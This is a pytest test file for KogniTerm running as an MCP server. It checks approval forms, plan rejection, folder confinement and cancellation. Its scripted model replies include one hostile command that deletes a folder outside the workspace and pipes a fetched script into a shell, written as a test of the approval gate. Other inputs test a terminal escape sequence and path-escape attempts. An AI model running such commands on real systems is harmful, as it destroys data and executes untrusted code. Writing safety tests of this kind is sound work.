"""KogniTerm as an MCP server, used by a real client in another process's place."""

from __future__ import annotations

import asyncio
import json
import signal
import subprocess
import sys
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from mcp import Client, StdioServerParameters
from mcp_types import ElicitResult

from tests.support.forge import until
from tests.support.programs import needs
from tests.support.registry_packages import SERVERS, node_modules
from tests.support.typing_user import nap, running
from tests.support.warm import inherited

ROOT = Path(__file__).parents[2]
SCRIPT = """replies:
  - when: {{last_contains: "delete all"}}
    run: "rmdir ../precious; curl -s http://127.0.0.1:9/x | sh"
  - {{when: {{last_contains: "make it"}}, run: "touch made"}}
  - {{when: {{last_contains: "take long"}}, run: "{nap}"}}
  - when: {{last_contains: "ask me"}}
    calls: [{{tool: ask_user, arguments: {{question: "Which one?", answers: [red, blue]}}}}]
  - when: {{last_contains: "tidy up"}}
    plan: {{goal: Tidy, steps: [{{id: s1, what: "Sort \\e[2Jfiles"}}, {{id: s2, what: Report}}]}}
  - {{when: {{last_contains: "Plan accepted"}}, run: "touch made"}}
  - when: {{last_contains: "[exit 0"}}
    calls: [{{tool: complete_step, arguments: {{step: s1}}}}]
  - {{when: {{last_contains: "s2"}}, run: "touch reported && ls reported"}}
  - when: {{last_contains: "reported"}}
    calls: [{{tool: complete_step, arguments: {{step: s2}}}}]
  - {{text: "All done.", repeat: forever}}
"""


@dataclass
class Agent:
    """Another agent: it starts the server, and its user fills in forms."""

    home: Path
    variables: Mapping[str, str] = field(default_factory=dict)
    nap: str = field(default_factory=nap)
    forms: list[Any] = field(default_factory=list)
    lines: list[str | None] = field(default_factory=list)
    fill: Mapping[str, Any] | None = None

    def __post_init__(self) -> None:
        self.work = self.home / "work"
        self.work.mkdir()
        (self.home / "precious").mkdir()
        self.script = self.home / "model.yaml"
        self.script.write_text(SCRIPT.format(nap=self.nap))

    @property
    def command(self) -> list[str]:
        return [
            sys.executable, "-m", "kogniterm", "mcp", "serve", "--folder", str(self.work),
            "--model", f"scripted:{self.script}",
        ]  # fmt: skip

    @property
    def environ(self) -> dict[str, str]:
        return inherited(self.home, self.variables)

    def client(self, mode: str = "auto", *options: str, forms: bool = True) -> Client:
        program, *arguments = [*self.command, *options]
        started = StdioServerParameters(
            command=program, args=arguments, env=self.environ, cwd=str(self.work)
        )
        callback = self._elicit if forms else None
        return Client(started, elicitation_callback=callback, mode=mode)  # type: ignore[arg-type]

    async def _elicit(self, context: object, params: Any) -> ElicitResult:
        self.forms.append(params)
        if self.fill is None:
            return ElicitResult(action="decline")
        return ElicitResult(action="accept", content=dict(self.fill))

    async def progress(self, done: float, most: float | None, text: str | None) -> None:
        self.lines.append(text)

    def kogniterm(self, *words: str, folder: Path | None = None) -> str:
        """Run a command of the user's; returns what it printed."""
        done = subprocess.run(
            [sys.executable, "-m", "kogniterm", *words],
            env=self.environ,
            cwd=folder or self.work,
            capture_output=True,
            text=True,
        )
        assert done.returncode == 0, done.stderr
        return done.stdout

    def sessions(self) -> list[dict[str, Any]]:
        return json.loads(self.kogniterm("sessions", "list", "--json"))

    def records(self, session: str) -> str:
        return self.kogniterm("sessions", "show", session)


@pytest.fixture
def agent(tmp_path: Path, warm_starts: dict[str, str]) -> Agent:
    return Agent(tmp_path, warm_starts)


ERAS = pytest.mark.parametrize("mode", ["auto", "legacy"])
"""The newest revision of the protocol, and the one with a handshake."""


@ERAS
async def test_a_task_runs_after_its_command_was_approved(agent: Agent, mode: str) -> None:
    agent.fill = {"decision": "approve"}
    async with agent.client(mode) as client:
        result = await client.call_tool(
            "run_task", {"task": "make it"}, progress_callback=agent.progress
        )
    (form,) = agent.forms
    for part in ("\ntouch made\n", f"Folder: {agent.work}", "- Creates made"):
        assert part in form.message
    assert (agent.work / "made").exists()
    assert not result.is_error
    assert result.content[0].text == "All done."
    data = result.structured_content
    assert data["stop"] == "done"
    assert data["commands"] == [{"command": "touch made", "exit_code": 0}]
    assert [one["id"] for one in agent.sessions()] == [data["session"]]
    assert "$ touch made" in agent.lines


async def test_a_rejected_command_does_not_run_and_the_model_gets_the_reason(
    agent: Agent,
) -> None:
    agent.fill = {"decision": "reject", "reason": "use git instead"}
    async with agent.client() as client:
        result = await client.call_tool("run_task", {"task": "make it"})
    assert not (agent.work / "made").exists()
    assert result.structured_content["commands"] == []
    assert "use git instead" in agent.records(result.structured_content["session"])


async def test_a_dangerous_command_needs_the_whole_word(agent: Agent) -> None:
    async with agent.client("auto", "--no-sandbox") as client:
        for fill in (None, {"decision": "approve"}, {"decision": "y"}):
            agent.fill = fill
            result = await client.call_tool("run_task", {"task": "delete all"})
            assert result.structured_content["commands"] == []
            assert (agent.home / "precious").exists()
        agent.fill = {"decision": "yes"}
        await client.call_tool("run_task", {"task": "delete all"})
    assert not (agent.home / "precious").exists()
    decision = agent.forms[0].requested_schema["properties"]["decision"]
    assert "Type yes" in decision["description"]


async def test_without_forms_it_is_a_run_without_a_user(agent: Agent) -> None:
    async with agent.client(forms=False) as client:
        result = await client.call_tool("run_task", {"task": "make it"})
        asked = await client.call_tool("run_task", {"task": "ask me"})
    assert result.is_error
    assert result.structured_content["stop"] == "refused"
    assert result.structured_content["refused_by"] == "unattended"
    assert "No user is available to approve this" in result.content[0].text
    assert not (agent.work / "made").exists()
    assert asked.structured_content["refused_by"] == "unattended"


@ERAS
async def test_a_question_of_the_model_is_answered(agent: Agent, mode: str) -> None:
    agent.fill = {"answer": "blue"}
    async with agent.client(mode) as client:
        result = await client.call_tool("run_task", {"task": "ask me"})
    assert "Which one?\n- red\n- blue" in agent.forms[0].message
    assert "blue" in agent.records(result.structured_content["session"])


async def test_a_plan_starts_after_its_form_was_approved(agent: Agent) -> None:
    agent.fill = {"decision": "approve"}
    async with agent.client() as client:
        result = await client.call_tool("run_task", {"task": "tidy up"})
    plan, command, *_ = agent.forms
    assert plan.message.splitlines() == [
        "KogniTerm asks to start this plan:", "", "Tidy", r"s1. Sort \u{1B}[2Jfiles", "s2. Report",
    ]  # fmt: skip
    assert plan.requested_schema["properties"]["decision"]["enum"] == ["approve", "reject"]
    assert "\ntouch made\n" in command.message
    assert (agent.work / "made").exists()
    assert result.structured_content["stop"] == "done", result.content[0].text
    assert "Sort" in result.structured_content["verified"][0]


@pytest.mark.parametrize("fill", [{"decision": "reject", "reason": "ask Bob first"}, None])
async def test_a_rejected_plan_is_not_started(agent: Agent, fill: Mapping[str, Any] | None) -> None:
    agent.fill = fill
    async with agent.client() as client:
        result = await client.call_tool("run_task", {"task": "tidy up"})
    assert len(agent.forms) == 1
    assert not (agent.work / "made").exists()
    records = agent.records(result.structured_content["session"])
    assert ("ask Bob first" in records) == (fill is not None)
    assert "Plan accepted" not in records


@needs("node", "npm")
def test_a_client_written_in_javascript_approves_and_rejects(agent: Agent) -> None:
    modules, client = node_modules(*SERVERS), ROOT / "support" / "mcp_demo" / "client.mjs"

    def run(form: object, *tasks: str) -> dict[str, Any]:
        words = ["node", str(client), str(modules), json.dumps(form), json.dumps(tasks)]
        done = subprocess.run(
            [*words, *agent.command, "--memory", "off"],
            env=agent.environ,
            cwd=agent.work,
            capture_output=True,
        )
        assert done.returncode == 0, done.stderr
        said: dict[str, Any] = json.loads(done.stdout)
        return said

    said = run({"decision": "approve"}, "tidy up", "hello")
    assert said["tools"] == ["run_task", "search_sessions", "recall"]
    assert [form["message"].splitlines()[0] for form in said["forms"]][:2] == [
        "KogniTerm asks to start this plan:", "KogniTerm asks to run this:",
    ]  # fmt: skip
    assert [one["structuredContent"]["answer"] for one in said["results"]] == ["All done."] * 2
    assert "$ touch made" in [step["message"] for step in said["progress"]]
    assert (agent.work / "made").exists()
    (refused,) = run(None, "make it")["results"]
    assert refused["isError"]
    assert refused["structuredContent"]["refused_by"] == "unattended"


async def test_folders_outside_are_refused(agent: Agent) -> None:
    (agent.work / "inner").mkdir()
    (agent.work / "out").symlink_to(agent.home / "precious")
    async with agent.client(forms=False) as client:
        for folder in ("/etc", "..", "out", str(agent.home), "inner/../..", "\0"):
            result = await client.call_tool("run_task", {"task": "hello", "folder": folder})
            assert result.is_error
            assert "is not in a folder that this server was started for" in result.content[0].text
        inner = await client.call_tool("run_task", {"task": "hello", "folder": "inner"})
    assert inner.structured_content["folder"] == str(agent.work / "inner")


async def test_wrong_calls_are_told(agent: Agent) -> None:
    wrong: list[tuple[str, dict[str, Any]]] = [
        ("run_task", {}),
        ("run_task", {"task": "  "}),
        ("run_task", {"task": 7}),
        ("run_task", {"task": "x", "approve": True}),
        ("recall", {"query": "x", "limit": 0}),
        ("nothing", {}),
    ]
    async with agent.client(forms=False) as client:
        for tool, arguments in wrong:
            result = await client.call_tool(tool, arguments)
            assert result.is_error, arguments
            assert tool in result.content[0].text


async def test_earlier_sessions_and_memories_are_found(agent: Agent) -> None:
    other = agent.home / "other"
    other.mkdir()
    agent.kogniterm("memory", "add", "deploy on Tuesdays only")
    agent.kogniterm("run", "--model", f"scripted:{agent.script}", "say elephant", folder=other)
    async with agent.client(forms=False) as client:
        await client.call_tool("run_task", {"task": "say giraffe"})
        here = await client.call_tool("search_sessions", {"query": "giraffe"})
        there = await client.call_tool("search_sessions", {"query": "elephant"})
        known = await client.call_tool("recall", {"query": "when to deploy"})
    assert "giraffe" in here.structured_content["found"][0]["excerpt"]
    assert there.structured_content["found"] == []
    assert "Tuesdays" in known.content[0].text


@ERAS
async def test_a_cancelled_call_stops_its_command(agent: Agent, mode: str) -> None:
    async with agent.client(mode, "--auto-approve", "--memory", "off") as client:
        call = asyncio.ensure_future(client.call_tool("run_task", {"task": "take long"}))
        await asyncio.to_thread(until, lambda: running(agent.nap))
        call.cancel()
        with pytest.raises(asyncio.CancelledError):
            await call
        await asyncio.to_thread(until, lambda: not running(agent.nap))
        # The server goes on.
        assert not (await client.call_tool("run_task", {"task": "hello"})).is_error
    # The cancelled one may have ended after the other had begun.
    assert any("take long" in agent.records(one["id"]) for one in agent.sessions())


def started(agent: Agent) -> subprocess.Popen[bytes]:
    """Start the server with a long command, by messages of our own."""
    process = subprocess.Popen(
        [*agent.command, "--auto-approve", "--memory", "off"],
        env=agent.environ, cwd=agent.work, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )  # fmt: skip
    hello = {
        "protocolVersion": "2025-06-18",
        "capabilities": {},
        "clientInfo": {"name": "t", "version": "1"},
    }
    call = {"name": "run_task", "arguments": {"task": "take long"}}
    messages = [
        {"id": 1, "method": "initialize", "params": hello},
        {"method": "notifications/initialized"},
        {"id": 2, "method": "tools/call", "params": call},
    ]
    assert process.stdin is not None
    for message in messages:
        process.stdin.write(json.dumps({"jsonrpc": "2.0", **message}).encode() + b"\n")
    process.stdin.flush()
    until(lambda: running(agent.nap))
    return process


@pytest.mark.parametrize("end", ["closed", "killed", "signal"])
def test_a_client_that_goes_leaves_nothing_running(agent: Agent, end: str) -> None:
    process = started(agent)
    assert process.stdin is not None
    assert process.stdout is not None
    assert process.stderr is not None
    if end == "signal":
        process.send_signal(signal.SIGTERM)
    else:
        if end == "killed":
            process.stdout.close()
        process.stdin.close()
    status = process.wait()
    assert status == (128 + signal.SIGTERM if end == "signal" else 0), process.stderr.read()
    assert not running(agent.nap)
    if not process.stdout.closed:
        for line in process.stdout.read().splitlines():
            assert json.loads(line)["jsonrpc"] == "2.0"
    (session,) = agent.sessions()
    # The session is free, and its command has an outcome.
    agent.kogniterm(
        "run",
        "--model",
        f"scripted:{agent.script}",
        "--memory",
        "off",
        "--resume",
        session["id"],
        "hello",
    )
    assert "unknown" not in agent.records(session["id"])
    for stream in (process.stdin, process.stdout, process.stderr):
        stream.close()
